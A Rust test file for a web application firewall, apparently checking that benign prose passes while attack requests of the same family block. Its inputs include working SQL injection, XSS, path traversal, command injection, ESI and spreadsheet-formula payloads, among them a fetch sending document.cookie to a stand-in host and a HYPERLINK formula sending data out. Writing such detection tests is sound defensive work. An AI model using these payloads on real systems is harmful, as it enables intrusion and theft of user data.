//! Benign look-alikes (prose that shares words and punctuation with an
//! attack family) that must pass at paranoia 1, each beside an attack of
//! the same family and rule that must still block.

use super::Engine;
use crate::detect::{Action, DetectConfig, Verdict};
use crate::http::Request;

/// The engine at the default paranoia (1), built once.
pub(super) fn engine() -> &'static Engine {
    static E: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    E.get_or_init(|| Engine::new(&DetectConfig::default()).expect("default configuration"))
}

/// A browser's request, with extra headers and a body.
pub(super) fn request(method: &str, target: &str, extra: &[(&str, &str)], body: &str) -> Verdict {
    let e = engine();
    let mut headers = vec![
        ("Host".to_owned(), "app.example.test".to_owned()),
        (
            "User-Agent".to_owned(),
            "Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0".to_owned(),
        ),
        ("Accept".to_owned(), "*/*".to_owned()),
    ];
    headers.extend(
        extra
            .iter()
            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned())),
    );
    let req = Request::from_parts(
        method,
        target,
        headers,
        body.as_bytes().to_vec(),
        e.limits(),
    )
    .expect("request");
    e.inspect(&req, None)
}

/// A browser's GET of `target`, with a Referer if given.
fn get(target: &str, referer: Option<&str>) -> Verdict {
    let referer: Vec<(&str, &str)> = referer.map(|r| ("Referer", r)).into_iter().collect();
    request("GET", target, &referer, "")
}

/// The target of a search for `s` (spaces, `"` and `;` encoded).
fn search(s: &str) -> String {
    format!(
        "/s?q={}",
        s.replace(' ', "%20")
            .replace('"', "%22")
            .replace(';', "%3B")
    )
}

fn rules(v: &Verdict) -> Vec<&str> {
    v.attacks.iter().map(|f| f.rule.as_str()).collect()
}

fn assert_passes(v: &Verdict, what: &str) {
    assert_eq!(v.action, Action::Pass, "{what}: {:?}", v.attacks);
}

/// Blocked, with a finding at a location `at` accepts.
fn assert_blocks_at(v: &Verdict, at: impl Fn(&str) -> bool, what: &str) {
    assert_eq!(v.action, Action::Block, "{what}: {:?}", v.attacks);
    assert!(
        v.attacks.iter().any(|f| at(&f.location)),
        "{what}: {:?}",
        v.attacks
    );
}

fn assert_blocks_with(v: &Verdict, rule: &str, what: &str) {
    assert_eq!(v.action, Action::Block, "{what}: {:?}", v.attacks);
    assert!(rules(v).contains(&rule), "{what}: {:?}", rules(v));
}

/// `eval(uation) form`: a closed call and then a word is a syntax error
/// in JavaScript; a call that starts an expression still blocks.
#[test]
fn a_sink_call_followed_by_words_is_prose() {
    for q in [
        "/s?comment=eval(uation)%20form%20for%20staff",
        "/s?comment=atob(s)%20explained",
    ] {
        let v = get(q, None);
        assert_passes(&v, q);
        assert!(!rules(&v).contains(&"xss-js-call-value"), "{q}");
    }
    for q in [
        "/s?comment=eval(name)",
        "/s?comment=eval(name)//",
        "/s?comment=eval(atob(location.hash.slice(1)))",
        "/s?comment=setTimeout(name)",
        "/s?comment=eval(name);x",
    ] {
        assert_blocks_with(&get(q, None), "xss-js-call-value", q);
    }
}

/// `q=Document.cookie policy` in a Referer: the `=` is the query's, and
/// `document.cookie` followed by a word is no expression.
#[test]
fn document_cookie_in_a_sentence_is_prose() {
    let prose = "https://app.example.test/search?q=Document.cookie%20policy%20in%20our%20terms";
    assert_passes(&get("/x", Some(prose)), prose);
    let attack =
        "https://app.example.test/search?q=x%22;fetch(%22//e.example/?c=%22%2Bdocument.cookie)";
    assert_blocks_with(&get("/x", Some(attack)), "xss-js-sink", attack);
    let q = "/s?q=a;c=document.cookie;";
    assert_blocks_with(&get(q, None), "xss-js-sink", q);
}

/// A path segment `win.ini editing tips` names another file than
/// `win.ini`; the file itself, or followed by shell punctuation, blocks.
#[test]
fn a_file_name_followed_by_words_is_another_name() {
    let prose = "/api/items/win.ini%20editing%20tips/details";
    assert_passes(&get(prose, None), prose);
    for t in [
        "/files/win.ini",
        "/download?f=/windows/win.ini%20%7C%20more",
    ] {
        assert_blocks_with(&get(t, None), "lfi-os-file", t);
    }
}

/// `eval(` in a path segment counts once (the segment is read as a
/// parameter too), so a segment naming the function in prose passes.
#[test]
fn eval_in_a_path_segment_counts_once() {
    let prose = "/api/items/the%20eval()%20function%20is%20dangerous%2C%20they%20say/details";
    let v = get(prose, None);
    assert_passes(&v, prose);
    assert!(rules(&v).contains(&"code-eval-generic"), "{:?}", rules(&v));
    for t in ["/index.php/eval(base64_decode(x))", "/api/eval(name)"] {
        let v = get(t, None);
        assert_eq!(v.action, Action::Block, "{t}: {:?}", v.attacks);
    }
    let t = "/index.php/system(id)";
    assert_blocks_with(&get(t, None), "code-injection-path", t);
}

/// A SQL function's name with a word's suffix in parentheses, then words
/// (`ascii(art) gallery`): libinjection reads `f(n)n`, but no SQL takes a
/// bare word after a call but as an alias. Anything SQL after the call
/// (an operator, a string, a keyword, a comment, a second call) still
/// blocks, and calls on numbers are the probes they always were.
#[test]
fn a_call_on_a_word_then_words_is_prose() {
    use crate::detect::libinj::call_on_a_word_then_prose;
    for s in [
        "ascii(art) gallery",
        "sleep(ing) bag for 2 persons",
        "concat(enation) rules",
        "char(acter) count 140",
        "char(acter) count: 140",
    ] {
        assert!(call_on_a_word_then_prose(s.as_bytes()), "{s}");
        let q = search(s);
        assert_passes(&get(&q, None), &q);
    }
    for s in [
        "ascii(x) union select 1",
        "sleep(ing) and 1=1",
        "concat(a) from users",
        "ascii(x) gallery(1)",
        "ascii(x) 'a'",
        "ascii(x) or 1",
        "ascii(x) sleep(5)",
        "ascii(x) -- a",
        "sleep(x) x;drop table t",
        "ascii(art)",
        "char(97) count",
    ] {
        assert!(!call_on_a_word_then_prose(s.as_bytes()), "{s}");
        let q = search(s);
        assert_eq!(get(&q, None).action, Action::Block, "{q}");
    }
}

proptest::proptest! {
    /// Past the call, anything but words, numbers and a lone colon makes
    /// the value SQL again.
    #[test]
    fn sql_after_the_call_is_never_prose(
        words in proptest::collection::vec("[a-z]{1,8}|[0-9]{1,3}", 1..5),
        at in 0usize..5,
        sql in proptest::sample::select(vec!["'", "\"", "=", "(", ")", ";", "--", "/*", "#", "<", "|", ",", "union", "select", "and", "or", "from"]),
    ) {
        let mut words = words;
        let at = at.min(words.len());
        words.insert(at, sql.to_owned());
        let s = format!("ascii(art) {}", words.join(" "));
        proptest::prop_assert!(!crate::detect::libinj::call_on_a_word_then_prose(s.as_bytes()), "{}", s);
    }
}

/// `char(acter) and count: 140`: libinjection reads `f(n)&` in its first five
/// tokens, but a lone `:` follows, which no SQL statement parses. Quoted
/// or commented colons, and injections without one, still block.
#[test]
fn a_lone_colon_after_the_tokens_is_no_sql() {
    use crate::detect::libinj::breaks_sql_later;
    assert!(breaks_sql_later(b"char(acter) count: 140"));
    assert!(breaks_sql_later(b"char(acter) and count: 140"));
    for s in [
        "'a:b' or 1=1",
        "1' or 1=1 -- a:b",
        "x' union select 'a:b'--",
        "1;waitfor delay '0:0:5'--",
        "char(97) count",
        "1'; anything: goto anything -- -a",
        "lbl: select 1 union select 2",
    ] {
        assert!(!breaks_sql_later(s.as_bytes()), "{s}");
    }
    let prose = "/s?q=char(acter)%20and%20count:%20140";
    let v = get(prose, None);
    assert_passes(&v, prose);
    assert!(rules(&v).contains(&"sqli-libinjection"), "{:?}", rules(&v));
    for t in [
        "/s?q=%27a:b%27%20or%201=1",
        "/s?q=1%27%20or%201=1%20--%20a:b",
        "/s?q=char(97)%20count",
        "/s?q=1%27%3B+anything%3A+goto+anything+--+-a",
    ] {
        assert_blocks_with(&get(t, None), "sqli-libinjection", t);
    }
}

/// Character references whose `&` a client left raw cut a value into
/// parameters; the page that reflects the query string decodes them
/// whole, so the query string is read whole too. A browser's query with
/// a plain `&` or an encoded `%26` is not.
#[test]
fn character_references_split_by_raw_ampersands_are_read_whole() {
    let refs = |s: &str, hex: bool| -> String {
        s.bytes()
            .map(|b| {
                if hex {
                    format!("&#x{b:X}")
                } else {
                    format!("&#{b:07}")
                }
            })
            .collect()
    };
    for hex in [false, true] {
        let q = format!(
            "/item?id=%3Cimg%20src={}%3E",
            refs("javascript:alert(1)", hex)
        );
        assert_blocks_at(&get(&q, None), |l| l == "query_string", &q);
    }
    let q = "/item?id=89)%20%3Ca%20href=j&#97v&#97script&#x3A;&#97lert(1)%3EClickMe";
    let v = get(q, None);
    assert_eq!(v.action, Action::Block, "{q}: {:?}", v.attacks);
    for q in [
        "/s?q=fish%20%26%20chips&lang=en&page=2",
        "/s?title=Tom%20%26%20Jerry%20%26lt%3B3&sort=asc",
        "/s?q=a&amp;b=2",
        "/s?note=see%20section%20%232&x=1",
    ] {
        assert_passes(&get(q, None), q);
    }
}

/// A negated glob class stands for one character of a system path as a
/// plain one does (`/etc/[!abc]asswd`).
#[test]
fn negated_glob_classes_in_system_paths_block() {
    for q in [
        "/get?file=/etc/%5B!abc%5Dasswd",
        "/get?f=cat%20/etc/%5B%5Eq%5Dasswd",
    ] {
        assert_blocks_with(&get(q, None), "cmdi-glob-class-path", q);
    }
    for q in [
        "/get?f=/docs/%5Bdraft%5D/notes",
        "/get?f=/a/%5B!important%5D%20note",
    ] {
        assert_passes(&get(q, None), q);
    }
}

/// A pair without `=` is read as a value too (an application that reads
/// its query string takes `?<payload>` whole), and a query whose names hold
/// code (`1' or '1'` of `?1' or '1'='1`) is read whole; a bare flag and a
/// bracketed name still pass.
#[test]
fn a_payload_cut_into_names_is_read_as_a_value() {
    for q in [
        "/s?x=1&1%20union%20select%20password%20from%20users--",
        "/s?1'%20or%20'1'='1",
    ] {
        assert_blocks_at(
            &get(q, None),
            |l| l.starts_with("query:") || l == "query_string",
            q,
        );
    }
    for q in [
        "/s?print",
        "/s?v2&amp",
        "/s?1699999999",
        "/s?lang=en&download",
        "/s?filter%5Bprice%5D=10&sort=-date",
    ] {
        assert_passes(&get(q, None), q);
    }
}

/// In the path, a URL wrapper and a system directory with a name and more
/// path after it count; a web root in prose and a docs path do not.
#[test]
fn wrappers_and_system_directories_in_the_path_block() {
    for (q, rule) in [
        (
            "/api/items/php://filter/convert.base64-encode/resource=index.php/details",
            "rfi-wrapper",
        ),
        ("/api/items//proc/self/environ/details", "lfi-os-file"),
        ("/get?f=/etc/nginx/sites-enabled/default", "lfi-os-file"),
    ] {
        assert_blocks_with(&get(q, None), rule, q);
    }
    for q in [
        "/docs/deploy/var/www/html/",
        "/s?q=copy%20it%20to%20/var/www/html/%20and%20reload",
        "/blog/2024/proc-self-environ-explained",
    ] {
        assert_passes(&get(q, None), q);
    }
}

/// A value that is a wildcard and two closing parentheses is an LDAP
/// filter closed early (`*))`, its NUL removed before the rules); the
/// same characters inside a sentence (a kiss and a smile) are not.
#[test]
fn a_wildcard_closing_an_ldap_filter_blocks() {
    for q in ["/s?user=*))%00", "/s?user=*))", "/s?user=%20*%20))%00"] {
        assert_blocks_with(&get(q, None), "ldap-wildcard-closes", q);
    }
    for q in ["/s?msg=love%20you%20:*))", "/s?expr=(a*(b%2Bc*))"] {
        assert_passes(&get(q, None), q);
    }
}

/// A quoted title that starts with a SQL word, then prose (`"Into the
/// Wild"`, `'Create your own adventure' series`): the leading-quote rules
/// match, but after a break-out SQL never reads two bare words in a row
/// outside a select list. Break-outs whose tail is an expression (operands
/// between operators), or that name SELECT, UNION, SLEEP..., still block.
#[test]
fn a_quoted_title_that_starts_with_a_sql_word_is_prose() {
    use crate::detect::rules::quoted_prose;
    for s in [
        "\"AND WHEN THE KIDS ARE OLD ENOUGH\"",
        "\"Into the Wild\"",
        "\"CREATE\" STERLING GOLD",
        "'Create your own adventure' series",
        "\"Order by noon for next day delivery",
    ] {
        let low = s.to_ascii_lowercase();
        assert!(quoted_prose(low.as_bytes()), "{s}");
        let q = search(s);
        assert_passes(&get(&q, None), &q);
    }
    for s in [
        "\" or \"a\"=\"a",
        "' and true and '",
        "'create table users",
        "\" into outfile \"",
        "' or username is not null or '",
        "' union select a b from c",
        "' or sleep five seconds",
        "' and 1 1 1",
        "'drop table users",
    ] {
        assert!(!quoted_prose(s.as_bytes()), "{s}");
        let q = search(s);
        assert_eq!(get(&q, None).action, Action::Block, "{q}");
    }
}

proptest::proptest! {
    /// A break-out followed by an expression, operands between SQL
    /// operators, is never prose, whatever the words.
    #[test]
    fn an_expression_after_a_quote_is_never_prose(
        quote in proptest::sample::select(vec!["'", "\"", "`"]),
        lead in proptest::sample::select(vec!["or", "and", "xor", "into", "where", "having", "create", "drop"]),
        terms in proptest::collection::vec(("[a-z]{1,8}|[0-9]{1,3}", proptest::sample::select(vec!["is", "like", "and", "or", "not", "in", "between", "regexp", "collate", "xor", "div", "is not", "sounds like"])), 1..5),
        close in proptest::bool::ANY,
    ) {
        let mut s = format!("{quote}{lead}");
        for (operand, op) in &terms {
            s.push_str(&format!(" {operand} {op}"));
        }
        s.push_str(" x");
        if close {
            s.push_str(quote);
        }
        proptest::prop_assert!(!crate::detect::rules::quoted_prose(s.as_bytes()), "{}", s);
    }
}

/// A path segment a rewrite passes on as a query parameter reads `+` as a
/// space: SQL written with `+` in a segment blocks as it does in a query,
/// and prose written so (`/tags/document.cookie+policy`) passes.
#[test]
fn a_plus_in_a_path_segment_is_a_space() {
    for t in [
        "/post/foo/24'union+all+select+1,2,3+from+aa",
        "/p/1+union+select+password+from+users--",
        "/items/1'+or+'1'='1/details",
    ] {
        assert_blocks_at(&get(t, None), |l| l == "path_segment", t);
    }
    for t in [
        "/api/items/Document.cookie+policy+in+our+terms/details",
        "/search/red+shoes+size+42",
        "/tags/c++/page/2",
        "/wiki/Drop+shot+and+table+tennis",
    ] {
        assert_passes(&get(t, None), t);
    }
}

/// SQL whose logical word opens a parenthesis (`' and(likelihood(...`),
/// and `benchmark(` over an expression and a hash call, block; prose with
/// the same words passes.
#[test]
fn sql_calls_behind_a_parenthesis_block() {
    for (q, rule) in [
        (
            "/s?email=admin%40juice-sh.op\\'%20and(%20likelihood%20(id,.0));'",
            "sqli-quote-logic-call",
        ),
        (
            "/s?q=x'%20AND(LENGTH(DATABASE())>1)--%20",
            "sqli-quote-logic-call",
        ),
        ("/s?q=BENChmARk(2999/**/999,Md5(NoW()", "sqli-time-function"),
        (
            "/s?q=1%20and%20benchmark(5000000*2,%20sha1(0x41))",
            "sqli-time-function",
        ),
    ] {
        assert_blocks_with(&get(q, None), rule, q);
    }
    for s in [
        "the 'quick' and (very (slow)) fox",
        "benchmark results for 2024 (see table 2, row 3)",
        "see benchmark(s) 1, 2 and 3",
    ] {
        assert_passes(&get(&search(s), None), s);
    }
}

/// `0||this.isAdmin`: a MongoDB `$where` clause made true; JavaScript with
/// a name before `||` is not one.
#[test]
fn a_where_clause_made_true_blocks() {
    for q in [
        "/s?u=0||this.isAdmin",
        "/rest/products/2499999||this.product/reviews",
    ] {
        assert_blocks_with(&get(q, None), "nosql-operator-value", q);
    }
    let prose = search("const x = a || this.fallback");
    assert_passes(&get(&prose, None), &prose);
}

/// `('sys'.'tem')('id')`: a PHP function name built from quoted pieces
/// and called.
#[test]
fn a_called_concatenation_of_quoted_pieces_blocks() {
    let q = "/s?code=('sys'.'tem')('id')";
    assert_blocks_with(&get(q, None), "php-callable-string", q);
    let prose = search("the ('a'.'b') notation (see above)");
    assert_passes(&get(&prose, None), &prose);
}

/// `see ..%2FREADME` in a path segment: the `..` follows a space, so it
/// is no path component and no parent directory; one that starts a
/// component still blocks.
#[test]
fn a_parent_reference_starts_a_path_component() {
    let prose = "/api/items/see%20..%2FREADME%20for%20details/details";
    assert_passes(&get(prose, None), prose);
    for t in [
        "/api/items/..%2Fimages%2Flogo.png/details",
        "/download/..%2F..%2F..%2Fetc%2Fpasswd",
    ] {
        assert_eq!(get(t, None).action, Action::Block, "{t}");
    }
}

/// JavaScript that reaches a sink through a computed name or with
/// comments between its tokens blocks; prose about the same methods
/// passes.
#[test]
fn javascript_through_computed_names_and_comments_blocks() {
    for q in [
        "/s?q=[%20%20]%20.%20%2F%2A%2A%2F%20sort%20.%20call%20%60%20%24%7B%20alert%20%7D%201337%20%60",
        "/s?q=self[atob(%22YWxlcnQ=%22)](1)",
        "/s?q=top[unescape(%22%2561lert%22)](1)",
        "/s?q=top[/al/.source%2B/ert/.source](1)",
        "/s?q=top[8680439..toString(30)](1)",
        "/s?q=[1].find(alert)",
    ] {
        assert_eq!(get(q, None).action, Action::Block, "{q}");
    }
    for s in [
        "use Array.prototype.sort.call (see MDN) to sort arguments",
        "self [atob] explained: decoding base64 (in the browser)",
        "the top [10] (ranked) lists",
        "find (alert) levels in the docs",
    ] {
        assert_passes(&get(&search(s), None), s);
    }
}

/// Slashes of mathematical notation that best-fit tables read as `/` and
/// `\`, a parent directory sent base64-encoded, a statement that asks
/// the database who it runs as, and PostgreSQL's COPY to a program
/// block; fractions, formulas and a "select user" label pass.
#[test]
fn math_slashes_encoded_paths_and_identity_queries_block() {
    for q in [
        "/s?f=..%u2215..%u2215etc%u2215passwd",
        "/s?f=..%E2%88%96..%E2%88%96windows%E2%88%96win.ini",
        "/s?f=Li4vLi4vZXRjL3Bhc3N3ZA==",
        "/s?q=select%20current_user;",
        "/s?q=1;select%20version()",
        "/s?q=1%27;copy%20(select%20%27%27)%20to%20program%20%27id%27--",
    ] {
        assert_eq!(get(q, None).action, Action::Block, "{q}");
    }
    for s in [
        "3\u{2044}4 inch pipe, 50 km\u{2215}h, set A\u{2216}B",
        "Select user",
        "select your current user profile",
        "copy (select all) to program notes; copy files to program folder",
    ] {
        assert_passes(&get(&search(s), None), s);
    }
}

/// Edge side includes, spreadsheet formulas that run a program or fetch a
/// URL, an XPath predicate closed into a union, a command on a line of its
/// own before a separator, a command run from a variable, template
/// scanners' polyglot, Thymeleaf's selection expressions, a module
/// imported from another host and a private address behind `#...@`
/// block; prose about the same things passes.
#[test]
fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
    for q in [
        "/s?q=%3Cesi:include%20src=%22http://203.0.113.9/x%22/%3E",
        "/s?q=%3Dcmd|%27%20/C%20calc%27!A0",
        "/s?q=%40SUM(1%2B1)*cmd|%27%20/C%20calc%27!A0",
        "/s?q=%3DHYPERLINK(%22http://203.0.113.9/?%22%26A1,%22x%22)",
        "/s?q=x%27%5D%7C//*%7C//*%5B%27",
        "/api/items/x']|//*|//*['/details",
        "/s?q=127.0.0.1%0aenv;",
        "/s?q=1%0aid|",
        "/s?q=a;X=$%27%5Cx69%5Cx64%27;$X",
        "/s?q=${{%3C%25[%25%27%22}}%25%5C.",
        "/s?q=*{7*7}",
        "/s?q=import(%27//203.0.113.9/x.js%27)",
        "/s?q=http://192.168.0.1%23@x.example/",
    ] {
        assert_eq!(get(q, None).action, Action::Block, "{q}");
    }
    for s in [
        "Edge side includes: the esi:include tag and <esi> docs",
        "=SUM(A1:A3) | 'totals' sheet, and Q1'!A1 refs",
        "names ['a', 'b'] | sorted / grouped",
        "Dear team,\nid: 4471; ls: pending\nps: see you & thanks",
        "total=5;$price, qty=2 & $tax",
        "deploy with ${{ secrets.TOKEN }}, rated *{5} stars, @{user}",
        "how to import ('./local.js') in a module",
        "router admin http://192.168.1.1 #status, mail me@home",
    ] {
        assert_passes(&get(&search(s), None), s);
    }
}
